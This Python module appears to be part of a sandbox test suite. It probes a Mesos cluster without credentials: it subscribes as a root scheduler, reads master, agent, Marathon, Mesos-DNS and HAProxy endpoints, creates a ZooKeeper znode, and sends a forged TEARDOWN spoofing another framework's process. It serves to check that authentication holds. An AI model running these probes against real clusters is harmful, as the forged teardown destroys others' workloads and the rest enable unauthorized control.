"""What a stranger without a password tries on a cluster. Runs in any network namespace: `python -m sandbox.attacks`.

Reads the targets as JSON from standard input, and prints what became of each attack as JSON. It does no harm, except to
the framework that is named as the victim.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from contextlib import suppress
from dataclasses import asdict, dataclass

import requests
from kazoo.client import KazooClient  # type: ignore[import-untyped]
from kazoo.exceptions import NoAuthError  # type: ignore[import-untyped]
from kazoo.handlers.threading import KazooTimeoutError  # type: ignore[import-untyped]

from sandbox.stand_ins.mesos_executor.protocol import Pid
from sandbox.v0_framework import CALL, V0Framework, post, teardown

OPEN, CLOSED, NO_WAY = "accepted", "refused", "not reached"
"""What becomes of an attack. `not reached`: nothing answers there."""

_TIMEOUT = (3, 10)


@dataclass(frozen=True)
class Targets:
    """What is attacked. Addresses are `host:port`.

    Args:
        source: the attacker's own address.
        master: the leading master.
        agent: an agent.
        marathon: a Marathon.
        zookeeper: ZooKeeper's connect string.
        dns: the HTTP API of Mesos-DNS.
        balancer: a load balancer's statistics.
        victim: the id of a framework.
        victim_pid: that framework's process, `scheduler-1@host:port`.
    """

    source: str
    master: str
    agent: str
    marathon: str
    zookeeper: str
    dns: str
    balancer: str
    victim: str
    victim_pid: str

    def text(self) -> str:
        """The JSON for `python -m sandbox.attacks`."""
        return json.dumps(asdict(self))


def _http(url: str, **call: object) -> str:
    """What an HTTP request gets. A request that is malformed on purpose gets 400 where no login is wanted."""
    method = "POST" if call else "GET"
    with requests.request(method, url, timeout=_TIMEOUT, stream=True, **call) as answer:  # type: ignore[arg-type]
        if answer.status_code in (404, 500, 503):
            return f"HTTP {answer.status_code}"
        return CLOSED if answer.status_code in (401, 403) else OPEN


def _scheduler_by_http(to: Targets) -> str:
    info = {"user": "root", "name": "stranger", "failover_timeout": 0}
    call = {"type": "SUBSCRIBE", "subscribe": {"framework_info": info}}
    return _http(f"http://{to.master}/api/v1/scheduler", json=call)


def _scheduler_by_libprocess(to: Targets) -> str:
    with V0Framework(to.master, to.source) as framework:
        return CLOSED if framework.error else OPEN


def _forged_teardown(to: Targets) -> str:
    post(Pid.parse(f"master@{to.master}"), CALL, teardown(to.victim), Pid.parse(to.victim_pid), to.source)
    return "sent"


def _znode(to: Targets) -> str:
    client = KazooClient(to.zookeeper, timeout=10)
    client.start(timeout=10)
    try:
        client.create("/mesos/stranger", ephemeral=True)
    except NoAuthError:
        return CLOSED
    finally:
        client.stop()
        client.close()
    return OPEN


ATTACKS: dict[str, Callable[[Targets], str]] = {
    "scheduler by HTTP": _scheduler_by_http,
    "scheduler by libprocess": _scheduler_by_libprocess,
    "master: /state": lambda to: _http(f"http://{to.master}/state"),
    "master: /teardown": lambda to: _http(f"http://{to.master}/teardown", data={"frameworkId": "none"}),
    "agent: /api/v1": lambda to: _http(f"http://{to.agent}/api/v1", json={"type": "GET_FLAGS"}),
    "agent: /state": lambda to: _http(f"http://{to.agent}/state"),
    "ZooKeeper: a node in /mesos": _znode,
    "Marathon: /v2/apps": lambda to: _http(f"http://{to.marathon}/v2/apps"),
    "Mesos-DNS: /v1/config": lambda to: _http(f"http://{to.dns}/v1/config"),
    "load balancer: /_haproxy_getconfig": lambda to: _http(f"http://{to.balancer}/_haproxy_getconfig"),
    "forged TEARDOWN": _forged_teardown,
}
"""The attacks by name. The last one only sends: whether the framework lives is for others to see."""


def attack(to: Targets) -> dict[str, str]:
    """What became of each attack."""
    found = dict.fromkeys(ATTACKS, NO_WAY)
    for name, attempt in ATTACKS.items():
        with suppress(OSError, KazooTimeoutError):  # requests' exceptions are OSErrors
            found[name] = attempt(to)
    return found


if __name__ == "__main__":
    print(json.dumps(attack(Targets(**json.load(sys.stdin)))))
